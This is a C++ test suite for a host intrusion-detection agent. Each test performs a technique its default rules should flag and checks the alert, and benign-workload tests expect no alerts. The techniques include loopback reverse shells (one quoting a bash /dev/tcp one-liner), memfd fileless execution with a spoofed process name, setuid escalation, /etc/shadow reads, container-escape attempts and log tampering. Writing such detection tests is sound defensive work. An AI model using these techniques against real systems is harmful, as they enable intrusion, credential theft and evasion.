// The default ruleset (rules/default.yaml) inside a real `vigil agent`: each test performs the
// behaviour a rule is about, for real (inside a runc container where the rule is about
// containers), and expects that rule's alert in the agent's alert file. A benign workload
// raises none. One agent serves the whole suite; every alert is matched by rule and by the pid
// or container of the behaviour, so the tests do not see each other's alerts.
#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <linux/bpf.h>
#include <netinet/in.h>
#include <linux/capability.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <filesystem>
#include <functional>
#include <memory>

#include "privileged/agent_fixture.h"
#include "support/runc_container.h"

namespace {

using namespace vigil::test;
using namespace std::chrono_literals;

class DefaultRules : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::geteuid() != 0) return;
    dir_ = std::make_unique<TempDir>();
    write_text(*dir_ / "agent.yaml", "mode: log\nstate_dir: " + (*dir_ / "state") +
                                         "\nwatch: []\nruntime:\n  enabled: true\n  ring_buffer_mb: 16\n"
                                         "outputs:\n  - type: file\n    path: " + (*dir_ / "alerts.jsonl") + "\n");
    agent_ = std::make_unique<AgentProcess>(*dir_ / "agent.yaml", *dir_ / "state", 900);
  }
  static void TearDownTestSuite() {
    agent_.reset();
    dir_.reset();
  }
  void SetUp() override {
    VIGIL_REQUIRE_ROOT();
    ASSERT_TRUE(agent_ && agent_->ready()) << (agent_ ? agent_->output() : "");
  }

  static std::vector<nlohmann::json> alerts() { return read_json_objects(*dir_ / "alerts.jsonl"); }

  // Waits up to 5 s for an alert of `rule` that `matches`; returns it (null when none came).
  static nlohmann::json wait_for(const std::string& rule, const std::function<bool(const nlohmann::json&)>& matches) {
    const auto until = std::chrono::steady_clock::now() + 5s;
    do {
      for (const auto& alert : alerts())
        if (alert.value("rule", "") == rule && matches(alert)) return alert;
      std::this_thread::sleep_for(50ms);
    } while (std::chrono::steady_clock::now() < until);
    return nullptr;
  }
  static nlohmann::json wait_for_pid(const std::string& rule, pid_t pid) {
    return wait_for(rule, [pid](const nlohmann::json& a) { return a.value("pid", 0) == pid; });
  }
  static nlohmann::json wait_for_container(const std::string& rule, const RuncContainer& container) {
    const std::string id = container.id().substr(0, 12);
    return wait_for(rule, [id](const nlohmann::json& a) { return a.contains("container") && a.dump().find(id) != std::string::npos; });
  }
  // Waits until the agent has processed everything up to now: a marker read of /etc/shadow by a
  // shell whose command line names `tag`, which the Read sensitive file rule reports.
  static void wait_for_marker(const std::string& tag) {
    const CommandResult marker = run({"/bin/sh", "-c", ": < /etc/shadow # " + tag});
    ASSERT_EQ(marker.exit_code, 0);
    auto alert = wait_for("Read sensitive file", [&](const nlohmann::json& a) {
      return a["output_fields"].value("proc.cmdline", "").find(tag) != std::string::npos;
    });
    ASSERT_FALSE(alert.is_null()) << "the marker never arrived";
  }
  // Whether this test process is among the alert's process and its ancestors.
  static bool started_by_this_test(const nlohmann::json& alert) {
    if (alert.value("pid", 0) == ::getpid()) return true;
    for (const auto& ancestor : alert.value("process_tree", nlohmann::json::array()))
      if (ancestor.value("pid", 0) == ::getpid()) return true;
    return false;
  }
  static std::string all_alerts() {
    std::string text;
    for (const auto& alert : alerts()) text += alert.dump() + "\n";
    return text;
  }

  static std::unique_ptr<RuncContainer> container(std::vector<std::string> applets = {}) {
    RuncOptions options;
    options.extra_applets = std::move(applets);
    auto started = RuncContainer::start(options);
    if (!started) {
      ADD_FAILURE() << "runc: " << started.error();
      return nullptr;
    }
    return std::move(*started);
  }

  static std::unique_ptr<TempDir> dir_;
  static std::unique_ptr<AgentProcess> agent_;
};

std::unique_ptr<TempDir> DefaultRules::dir_;
std::unique_ptr<AgentProcess> DefaultRules::agent_;

// Runs fn in a forked child that exits with fn's result (0: did what it should); returns the
// child's pid after reaping it, or -1 when it failed.
pid_t in_child(const std::function<int()>& fn) {
  const pid_t pid = ::fork();
  if (pid == 0) ::_exit(fn());
  int status = 0;
  if (::waitpid(pid, &status, 0) != pid || !WIFEXITED(status) || WEXITSTATUS(status) != 0) {
    ADD_FAILURE() << "child " << pid << " status " << status;
    return -1;
  }
  return pid;
}

// A TCP listener on 127.0.0.1 (ephemeral port unless given); closed with the object.
struct LoopbackListener {
  int fd = -1;
  std::uint16_t port = 0;
  explicit LoopbackListener(std::uint16_t wanted = 0) {
    fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int one = 1;
    ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(wanted);
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0 || ::listen(fd, 16) != 0) {
      ::close(fd);
      fd = -1;
      return;
    }
    socklen_t len = sizeof(addr);
    ::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len);
    port = ntohs(addr.sin_port);
  }
  ~LoopbackListener() {
    if (fd >= 0) ::close(fd);
  }
};

int connect_loopback(std::uint16_t port) {
  int s = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(s, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) return -1;
  return s;
}

TEST_F(DefaultRules, ShellInContainer) {
  auto box = container();
  ASSERT_TRUE(box);
  ASSERT_EQ(box->exec({"sh", "-c", "true"}).exit_code, 0);
  auto alert = wait_for_container("Shell in container", *box);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["priority"], "Notice");
  EXPECT_EQ(alert["output_fields"]["proc.name"], "sh");
  EXPECT_EQ(alert["output_fields"]["container.id"], box->id().substr(0, 12));
}

TEST_F(DefaultRules, ReverseShell) {
  LoopbackListener listener;
  ASSERT_GE(listener.fd, 0);
  const pid_t pid = in_child([&] {
    int s = connect_loopback(listener.port);
    if (s < 0) return 1;
    // What `bash -i >& /dev/tcp/host/port 0>&1` does before running the shell, then the shell.
    if (::dup2(s, 0) != 0 || ::dup2(s, 1) != 1) return 2;
    ::execl("/bin/sh", "sh", "-c", "exit 0", static_cast<char*>(nullptr));
    return 3;
  });
  ASSERT_GT(pid, 0);
  auto alert = wait_for_pid("Reverse shell", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["priority"], "Critical");
  EXPECT_EQ(alert["output_fields"]["proc.name"], "sh");
  const std::string connection = alert["output_fields"]["proc.stdin.name"];
  EXPECT_NE(connection.find(":" + std::to_string(listener.port)), std::string::npos) << connection;
}

// An interpreter that puts its own connection on stdin and stdout (and then relays a shell
// through a pty, so no shell ever has the socket): caught at the dup.
TEST_F(DefaultRules, ReverseShellByAnInterpreter) {
  LoopbackListener listener;
  ASSERT_GE(listener.fd, 0);
  const CommandResult python = run({"/usr/bin/python3", "-I", "-S", "-c",
                                    "import os, socket, sys\n"
                                    "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
                                    "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n",
                                    std::to_string(listener.port)});
  ASSERT_EQ(python.exit_code, 0) << python.err;
  auto alert = wait_for("Reverse shell", [&](const nlohmann::json& a) {
    return a["output_fields"].value("proc.name", "") == "python3" &&
           a["output_fields"].value("fd.name", "").find(":" + std::to_string(listener.port)) != std::string::npos;
  });
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["evt.type"], "dup2");
}

// inetd, tcpsvd, xinetd: a server accepts a connection and hands it to a child as its stdin and
// stdout, here a shell script. Not a reverse shell: the connection was opened from outside.
TEST_F(DefaultRules, InetdStyleServerHandingAConnectionToAShellIsNotAReverseShell) {
  const std::size_t before = alerts().size();
  TempDir dir;
  write_text(dir / "handler.sh", "read line\necho \"you said $line\"\n");
  const CommandResult served = run(
      {"/usr/bin/python3", "-I", "-S", "-c",
       "import os, socket, sys\n"
       "server = socket.socket(); server.bind(('127.0.0.1', 0)); server.listen(1)\n"
       "if os.fork() == 0:\n"
       "    conn, _ = server.accept()\n"
       "    os.dup2(conn.fileno(), 0); os.dup2(conn.fileno(), 1)\n"
       "    os.execv('/bin/sh', ['sh', sys.argv[1]])\n"
       "client = socket.create_connection(server.getsockname())\n"
       "client.sendall(b'hello\\n')\n"
       "reply = client.makefile().readline()\n"
       "os.wait()\n"
       "sys.exit(0 if reply == 'you said hello\\n' else 1)\n",
       dir / "handler.sh"});
  ASSERT_EQ(served.exit_code, 0) << served.out << served.err;
  wait_for_marker("inetd-" + std::to_string(::getpid()));
  const auto after = alerts();
  for (std::size_t i = before; i < after.size(); ++i) EXPECT_NE(after[i].value("rule", ""), "Reverse shell") << after[i].dump();
}

// A web server's per-connection child (busybox httpd dups the accepted socket onto 0 and 1) and
// its CGI program, a shell script reading and writing pipes: no reverse shell.
TEST_F(DefaultRules, WebServerAndItsCgiShellAreNotAReverseShell) {
  const std::size_t before = alerts().size();
  TempDir dir;
  ::mkdir((dir / "www").c_str(), 0755);
  ::mkdir((dir / "www/cgi-bin").c_str(), 0755);
  write_text(dir / "www/cgi-bin/hello.cgi", "#!/bin/sh\necho 'Content-Type: text/plain'\necho\necho \"hello from cgi\"\n");
  ::chmod((dir / "www/cgi-bin/hello.cgi").c_str(), 0755);
  std::uint16_t port = 0;
  {
    LoopbackListener probe_port;  // a free port, released for httpd
    port = probe_port.port;
  }
  const CommandResult web = run_shell(
      "busybox httpd -f -p 127.0.0.1:" + std::to_string(port) + " -h " + shell_quote(dir / "www") + " & pid=$!; "
      "for i in $(seq 50); do python3 -c \"import urllib.request,sys; "
      "sys.stdout.write(urllib.request.urlopen('http://127.0.0.1:" + std::to_string(port) +
          "/cgi-bin/hello.cgi').read().decode())\" 2>/dev/null && break; sleep 0.1; done; rc=$?; kill $pid; exit $rc",
      60);
  EXPECT_EQ(web.exit_code, 0) << web.err;
  EXPECT_NE(web.out.find("hello from cgi"), std::string::npos) << web.out;
  wait_for_marker("cgi-" + std::to_string(::getpid()));
  const auto after = alerts();
  for (std::size_t i = before; i < after.size(); ++i) EXPECT_NE(after[i].value("rule", ""), "Reverse shell") << after[i].dump();
}

// A program that exits at once, exec'd from a memfd by its /proc/self/fd path with a spoofed
// argv[0], and through execveat(fd, "", AT_EMPTY_PATH): the kernel says it is a memfd whatever
// /proc shows by the time the agent looks.
TEST_F(DefaultRules, FilelessExecutionOfAShortLivedProgram) {
  const std::string program = read_text("/usr/bin/true");
  ASSERT_FALSE(program.empty());
  for (const bool by_execveat : {false, true}) {
    SCOPED_TRACE(by_execveat ? "execveat(AT_EMPTY_PATH)" : "execv(/proc/self/fd/N)");
    const pid_t pid = ::fork();
    if (pid == 0) {
      int fd = static_cast<int>(::syscall(SYS_memfd_create, "x", 0));
      if (fd < 0 || ::write(fd, program.data(), program.size()) != static_cast<ssize_t>(program.size())) ::_exit(1);
      const char* argv[] = {"[kworker/0:1]", nullptr};
      const char* envp[] = {nullptr};
      if (by_execveat) {
        ::syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
      } else {
        const std::string path = "/proc/self/fd/" + std::to_string(fd);
        ::execve(path.c_str(), const_cast<char* const*>(argv), const_cast<char* const*>(envp));
      }
      ::_exit(2);
    }
    int status = 0;
    ASSERT_EQ(::waitpid(pid, &status, 0), pid);
    ASSERT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << status;
    auto alert = wait_for_pid("Fileless execution", pid);
    ASSERT_FALSE(alert.is_null()) << all_alerts();
    EXPECT_EQ(alert["output_fields"]["proc.exepath"], "/memfd:x");
  }
}

// A program in /dev/shm run through a symlink elsewhere: the executable's resolved path counts.
TEST_F(DefaultRules, FilelessExecutionThroughASymlinkIntoDevShm) {
  TempDir dir;
  const std::string target = "/dev/shm/vigil-test-" + std::to_string(::getpid());
  ASSERT_EQ(::system(("cp /usr/bin/true " + shell_quote(target)).c_str()), 0);
  const std::string link = dir / "harmless";
  ASSERT_EQ(::symlink(target.c_str(), link.c_str()), 0);
  const pid_t pid = in_child([&] {
    ::execl(link.c_str(), "harmless", static_cast<char*>(nullptr));
    return 1;
  });
  ::unlink(target.c_str());
  ASSERT_GT(pid, 0);
  auto alert = wait_for_pid("Fileless execution", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["proc.exepath"], target);
  EXPECT_EQ(alert["output_fields"]["proc.name"], "harmless");
}

TEST_F(DefaultRules, FilelessExecution) {
  const std::string busybox = read_text("/bin/busybox");
  ASSERT_FALSE(busybox.empty());
  const pid_t pid = ::fork();
  if (pid == 0) {
    int fd = static_cast<int>(::syscall(SYS_memfd_create, "payload", 0));
    if (fd < 0 || ::write(fd, busybox.data(), busybox.size()) != static_cast<ssize_t>(busybox.size())) ::_exit(1);
    const char* argv[] = {"true", nullptr};
    const char* envp[] = {nullptr};
    ::fexecve(fd, const_cast<char* const*>(argv), const_cast<char* const*>(envp));
    ::_exit(2);
  }
  int status = 0;
  ASSERT_EQ(::waitpid(pid, &status, 0), pid);
  ASSERT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << status;
  auto alert = wait_for_pid("Fileless execution", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_NE(alert["output_fields"]["proc.exepath"].get<std::string>().find("memfd:payload"), std::string::npos)
      << alert.dump();
}

TEST_F(DefaultRules, PrivilegeEscalationToRoot) {
  // A non-root process that can still change its uid (CAP_SETUID kept across the switch, as a
  // setuid-root helper or an exploited capability would) makes itself root.
  const pid_t pid = in_child([] {
    if (::prctl(PR_SET_KEEPCAPS, 1) != 0) return 1;
    if (::setresuid(65534, 65534, 65534) != 0) return 2;
    __user_cap_header_struct header{_LINUX_CAPABILITY_VERSION_3, 0};
    __user_cap_data_struct data[2] = {};
    if (::syscall(SYS_capget, &header, data) != 0) return 3;
    data[0].effective |= 1u << CAP_SETUID;  // still permitted thanks to PR_SET_KEEPCAPS
    if (::syscall(SYS_capset, &header, data) != 0) return 3;
    std::this_thread::sleep_for(50ms);  // the first switch reaches the agent before the second
    return ::setuid(0) == 0 ? 0 : 4;
  });
  ASSERT_GT(pid, 0);
  auto alert = wait_for_pid("Privilege escalation to root", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["evt.type"], "setuid");
  EXPECT_EQ(alert["output_fields"]["evt.arg.old_uid"], "65534");
  EXPECT_EQ(alert["output_fields"]["user.uid"], "0");
}

TEST_F(DefaultRules, ReadSensitiveFile) {
  const CommandResult cat = run({"/bin/cat", "/etc/shadow"});
  ASSERT_EQ(cat.exit_code, 0);
  auto alert = wait_for("Read sensitive file", [](const nlohmann::json& a) {
    return a["output_fields"].value("fd.name", "") == "/etc/shadow" && a["output_fields"].value("proc.name", "") == "cat";
  });
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["priority"], "Warning");
}

// A process that renames itself to a reader the rule allows (sshd) is still the program it runs.
TEST_F(DefaultRules, ReadSensitiveFileAfterRenamingToAnAllowedName) {
  const pid_t pid = in_child([] {
    if (::prctl(PR_SET_NAME, "sshd") != 0) return 1;
    const int fd = ::open("/etc/shadow", O_RDONLY);
    if (fd < 0) return 2;
    ::close(fd);
    return 0;
  });
  ASSERT_GT(pid, 0);
  auto alert = wait_for_pid("Read sensitive file", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["fd.name"], "/etc/shadow");
}

// No exec between the directory change and the open: the shell's builtin cd, then a redirect
// by a relative name. The agent follows the chdir, so fd.name is still /etc/shadow.
TEST_F(DefaultRules, ReadSensitiveFileByARelativeNameAfterCd) {
  const CommandResult sh = run({"/bin/sh", "-c", "cd /etc && : < shadow"});
  ASSERT_EQ(sh.exit_code, 0);
  auto alert = wait_for("Read sensitive file", [](const nlohmann::json& a) {
    return a["output_fields"].value("fd.name", "") == "/etc/shadow" && a["output_fields"].value("proc.name", "") == "sh";
  });
  ASSERT_FALSE(alert.is_null()) << all_alerts();
}

TEST_F(DefaultRules, WriteBelowBinaryDirectory) {
  const std::string target = "/usr/local/bin/.vigil-test-" + std::to_string(::getpid());
  const pid_t pid = in_child([&] {
    int fd = ::open(target.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd < 0) return 1;
    ::close(fd);
    return 0;
  });
  ::unlink(target.c_str());
  ASSERT_GT(pid, 0);
  auto alert = wait_for_pid("Write below binary or library directory", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["fd.name"], target);
}

TEST_F(DefaultRules, KernelModuleLoad) {
  TempDir dir;
  write_text(dir / "not-a-module.ko", "this is not an ELF module\n");
  const pid_t pid = ::fork();
  if (pid == 0) {
    int fd = ::open((dir / "not-a-module.ko").c_str(), O_RDONLY);
    // Fails (not a module; module loading may be off): the attempt is what the rule reports.
    ::syscall(SYS_finit_module, fd, "", 0);
    ::_exit(0);
  }
  ASSERT_EQ(::waitpid(pid, nullptr, 0), pid);
  auto alert = wait_for_pid("Kernel module load", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["evt.type"], "finit_module");
}

TEST_F(DefaultRules, PtraceAttach) {
  const pid_t target = ::fork();
  if (target == 0) {
    ::pause();
    ::_exit(0);
  }
  const pid_t tracer = in_child([&] {
    if (::ptrace(PTRACE_ATTACH, target, nullptr, nullptr) != 0) return 1;
    ::waitpid(target, nullptr, 0);
    ::ptrace(PTRACE_DETACH, target, nullptr, nullptr);
    return 0;
  });
  ::kill(target, SIGKILL);
  ::waitpid(target, nullptr, 0);
  ASSERT_GT(tracer, 0);
  auto alert = wait_for_pid("Ptrace attach to another process", tracer);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["evt.arg.request"], "PTRACE_ATTACH");
  EXPECT_EQ(alert["output_fields"]["evt.arg.pid"], std::to_string(target));
}

TEST_F(DefaultRules, ConnectionToMiningPoolPort) {
  LoopbackListener listener(3333);
  ASSERT_GE(listener.fd, 0) << "port 3333 busy";
  const pid_t pid = in_child([&] {
    int s = connect_loopback(3333);
    return s >= 0 ? 0 : 1;
  });
  ASSERT_GT(pid, 0);
  auto alert = wait_for_pid("Connection to mining pool port", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["fd.sport"], "3333");
}

nlohmann::json field(const nlohmann::json& alert, const char* name) { return alert["output_fields"].value(name, ""); }

// The container rules, for containers whatever runs them and however their cgroups are named:
// each alert carries the runtime's id and name (no cgroup name gives these away).
TEST_F(DefaultRules, ContainerRulesFireWhateverTheRuntimeAndCgroup) {
  struct Case {
    const char* what;
    RuncOptions options;
  };
  const Case cases[] = {
      {"runc, a plain name, no cgroupsPath", {.plain_name = true}},
      {"runc, a plain name, a systemd-style cgroup", {.plain_name = true, .cgroups_path = "/system.slice/runc-{id}.scope"}},
      {"crun", {.runtime = OciRuntime::crun, .plain_name = true}},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.what);
    if (!RuncContainer::available(c.options.runtime)) {
      VIGIL_REQUIRE(false, std::string(c.what) + ": runtime not installed (scripts/deps.txt)");
    }
    RuncOptions options = c.options;
    options.extra_applets = {"dpkg"};
    auto started = RuncContainer::start(options);
    ASSERT_TRUE(started) << started.error();
    const std::string id = (*started)->id();
    const auto in_this_container = [&](const nlohmann::json& a) { return field(a, "container.id") == id; };
    ASSERT_EQ((*started)->exec({"sh", "-c", "true"}).exit_code, 0);
    auto shell = wait_for("Shell in container", in_this_container);
    ASSERT_FALSE(shell.is_null()) << all_alerts();
    EXPECT_EQ(field(shell, "container.name"), id) << "runc and crun have no names: the id";
    EXPECT_EQ(field(shell, "proc.name"), "sh");
    (*started)->exec({"dpkg", "--version"});
    auto package = wait_for("Package manager in container", in_this_container);
    ASSERT_FALSE(package.is_null()) << all_alerts();
    EXPECT_EQ(field(package, "container.name"), id);
  }
}

// `unshare --fork --pid --mount` and chroot: a container no runtime knows, named after its pid
// namespace (docs/state.md).
TEST_F(DefaultRules, ContainerRulesFireForAHandMadeContainer) {
  VIGIL_REQUIRE(UnsharedProcess::available(), "unshare, chroot and a static /bin/busybox");
  auto box = UnsharedProcess::start({.args = {"sh", "-c", "sleep 300"}});
  ASSERT_TRUE(box) << box.error();
  struct stat ns{};
  ASSERT_EQ(::stat(("/proc/" + std::to_string((*box)->inner_pid()) + "/ns/pid").c_str(), &ns), 0);
  const std::string id = "pidns-" + std::to_string(ns.st_ino);
  auto shell = wait_for("Shell in container", [&](const nlohmann::json& a) { return field(a, "container.id") == id; });
  ASSERT_FALSE(shell.is_null()) << id << "\n" << all_alerts();
  EXPECT_EQ(field(shell, "proc.name"), "sh");
}

// A host process in a private pid namespace (a sandbox) or mount namespace (PrivateTmp=) is on
// the host: its alerts say so, and no container rule fires for its shell.
TEST_F(DefaultRules, PrivateNamespacesOnTheHostAreTheHost) {
  VIGIL_REQUIRE(UnsharedProcess::available(), "unshare, chroot and a static /bin/busybox");
  const std::size_t before = alerts().size();
  for (const bool own_pid_namespace : {true, false}) {
    SCOPED_TRACE(own_pid_namespace ? "own pid namespace" : "own mount namespace");
    auto sandbox = UnsharedProcess::start({.pid = own_pid_namespace,
                                           .mount = !own_pid_namespace,
                                           .chroot = false,
                                           .args = {"/bin/sh", "-c", ": < /etc/shadow; sleep 300"}});
    ASSERT_TRUE(sandbox) << sandbox.error();
    auto read = wait_for_pid("Read sensitive file", (*sandbox)->inner_pid());
    ASSERT_FALSE(read.is_null()) << all_alerts();
    EXPECT_EQ(field(read, "container.id"), "host");
  }
  wait_for_marker("private-ns-" + std::to_string(::getpid()));
  const auto after = alerts();
  for (std::size_t i = before; i < after.size(); ++i) EXPECT_NE(after[i].value("rule", ""), "Shell in container") << after[i].dump();
}

// A process in a container that renames itself to the runtime's name before mounting is still
// not the runtime: allowlists go by the executable's path.
TEST_F(DefaultRules, ContainerEscapeAfterRenamingToTheRuntimesName) {
  auto box = container();
  ASSERT_TRUE(box);
  const pid_t init = box->init_pid();
  const pid_t pid = in_child([&] {
    // Join the container the way `runc exec` does, then act as a process of it.
    const int mnt = ::open(("/proc/" + std::to_string(init) + "/ns/mnt").c_str(), O_RDONLY);
    const int pidns = ::open(("/proc/" + std::to_string(init) + "/ns/pid").c_str(), O_RDONLY);
    if (mnt < 0 || pidns < 0 || ::setns(pidns, CLONE_NEWPID) != 0 || ::setns(mnt, CLONE_NEWNS) != 0) return 1;
    const pid_t inside = ::fork();
    if (inside == 0) {
      ::prctl(PR_SET_NAME, "runc:[2:INIT]");
      ::mount("none", "/tmp", "tmpfs", 0, nullptr);  // whether it works or not, the attempt counts
      ::_exit(0);
    }
    int status = 0;
    return ::waitpid(inside, &status, 0) == inside ? 0 : 2;
  });
  ASSERT_GT(pid, 0);
  // proc.name is the name this program got at exec, not the one it gave itself.
  std::string own_name = read_text("/proc/self/comm");
  while (!own_name.empty() && own_name.back() == '\n') own_name.pop_back();
  auto alert = wait_for("Container escape attempt", [&](const nlohmann::json& a) {
    return field(a, "container.id") == box->id().substr(0, 12) && field(a, "evt.type") == "mount" &&
           field(a, "proc.name") == own_name;
  });
  ASSERT_FALSE(alert.is_null()) << own_name << "\n" << all_alerts();
}

TEST_F(DefaultRules, ContainerEscapeAttempts) {
  auto box = container({"mount", "unshare"});
  ASSERT_TRUE(box);
  box->exec({"mount", "-t", "tmpfs", "none", "/tmp"});  // denied (no CAP_SYS_ADMIN): the attempt counts
  auto mount_alert = wait_for("Container escape attempt", [&](const nlohmann::json& a) {
    return a.dump().find(box->id().substr(0, 12)) != std::string::npos && a["output_fields"].value("evt.type", "") == "mount";
  });
  ASSERT_FALSE(mount_alert.is_null()) << all_alerts();
  box->exec({"cat", "/proc/1/root/etc/hostname"});
  auto proc_root_alert = wait_for("Container escape attempt", [&](const nlohmann::json& a) {
    return a.dump().find(box->id().substr(0, 12)) != std::string::npos &&
           a["output_fields"].value("fd.name", "").starts_with("/proc/1/root");
  });
  EXPECT_FALSE(proc_root_alert.is_null()) << all_alerts();
  box->exec({"unshare", "-U", "true"});
  auto unshare_alert = wait_for("Container escape attempt", [&](const nlohmann::json& a) {
    return a.dump().find(box->id().substr(0, 12)) != std::string::npos && a["output_fields"].value("evt.type", "") == "unshare";
  });
  EXPECT_FALSE(unshare_alert.is_null()) << all_alerts();
}

TEST_F(DefaultRules, BpfProgramLoad) {
  const pid_t pid = in_child([] {
    // r0 = 0; exit: the smallest valid program.
    bpf_insn insns[2] = {};
    insns[0].code = BPF_ALU64 | BPF_MOV | BPF_K;
    insns[0].dst_reg = BPF_REG_0;
    insns[1].code = BPF_JMP | BPF_EXIT;
    bpf_attr attr{};
    attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    attr.insns = reinterpret_cast<std::uint64_t>(insns);
    attr.insn_cnt = 2;
    attr.license = reinterpret_cast<std::uint64_t>("GPL");
    int fd = static_cast<int>(::syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr)));
    if (fd < 0) return 1;
    ::close(fd);
    return 0;
  });
  ASSERT_GT(pid, 0);
  auto alert = wait_for_pid("BPF program load", pid);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
}

TEST_F(DefaultRules, LogTampering) {
  const std::string log = "/var/log/vigil-test-" + std::to_string(::getpid()) + ".log";
  write_text(log, "evidence\n");
  const CommandResult truncate = run({"/bin/sh", "-c", ": > " + log});
  const CommandResult remove = run({"/bin/rm", "-f", log});
  ::unlink(log.c_str());
  ASSERT_EQ(truncate.exit_code, 0);
  ASSERT_EQ(remove.exit_code, 0);
  auto truncated = wait_for("Log tampering", [&](const nlohmann::json& a) {
    return a["output_fields"].value("fd.name", "") == log && a["output_fields"].value("proc.name", "") == "sh";
  });
  EXPECT_FALSE(truncated.is_null()) << all_alerts();
  auto removed = wait_for("Log tampering", [&](const nlohmann::json& a) {
    return a["output_fields"].value("evt.arg.name", "") == log && a["output_fields"].value("proc.name", "") == "rm";
  });
  EXPECT_FALSE(removed.is_null()) << all_alerts();
}

TEST_F(DefaultRules, PackageManagerInContainer) {
  auto box = container({"dpkg"});
  ASSERT_TRUE(box);
  box->exec({"dpkg", "--version"});
  auto alert = wait_for_container("Package manager in container", *box);
  ASSERT_FALSE(alert.is_null()) << all_alerts();
  EXPECT_EQ(alert["output_fields"]["proc.name"], "dpkg");
}

// Everyday work raises nothing: compiling, a shell script, apt-cache, a web server and its clients.
TEST_F(DefaultRules, BenignWorkloadRaisesNoAlert) {
  const std::size_t before = alerts().size();
  TempDir dir;
  write_text(dir / "hello.c", "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n");
  ASSERT_EQ(run({"cc", "-O2", "-o", dir / "hello", dir / "hello.c"}).exit_code, 0);
  ASSERT_EQ(run({dir / "hello"}).exit_code, 0);
  write_text(dir / "script.sh", "#!/bin/sh\nset -e\nfor i in 1 2 3; do echo $i > \"$(dirname \"$0\")/out.$i\"; done\nls \"$(dirname \"$0\")\" | wc -l\n");
  ::chmod((dir / "script.sh").c_str(), 0755);
  ASSERT_EQ(run({dir / "script.sh"}).exit_code, 0);
  ASSERT_EQ(run({"apt-cache", "policy", "bash"}).exit_code, 0);
  ASSERT_EQ(run({"apt-cache", "show", "coreutils"}).exit_code, 0);
  ::mkdir((dir / "www").c_str(), 0755);
  write_text(dir / "www/index.html", "<h1>ok</h1>\n");
  const CommandResult web = run_shell(
      "cd " + shell_quote(dir / "www") + " && (python3 -m http.server 0 --bind 127.0.0.1 >" + shell_quote(dir / "web.log") +
          " 2>&1 & echo $! >" + shell_quote(dir / "web.pid") + ") && "
          "for i in $(seq 50); do port=$(sed -n 's/.*port \\([0-9]*\\).*/\\1/p' " + shell_quote(dir / "web.log") +
          "); [ -n \"$port\" ] && break; sleep 0.1; done && "
          "for i in $(seq 20); do python3 -c \"import urllib.request,sys; urllib.request.urlopen('http://127.0.0.1:'+sys.argv[1]+'/').read()\" $port || exit 1; done; "
          "rc=$?; kill $(cat " + shell_quote(dir / "web.pid") + "); exit $rc",
      60);
  EXPECT_EQ(web.exit_code, 0) << web.out << web.err << read_text(dir / "web.log");
  wait_for_marker("benign-" + std::to_string(::getpid()));  // the agent has seen all of it
  const auto after = alerts();
  std::string unexpected;
  for (std::size_t i = before; i < after.size(); ++i) {
    // Only what this workload did: the agent sees the whole host, where other tests may run.
    if (!started_by_this_test(after[i]) || after[i]["output_fields"].value("proc.cmdline", "").find("benign-") != std::string::npos)
      continue;
    unexpected += after[i].dump() + "\n";
  }
  EXPECT_TRUE(unexpected.empty()) << unexpected;
}

}  // namespace
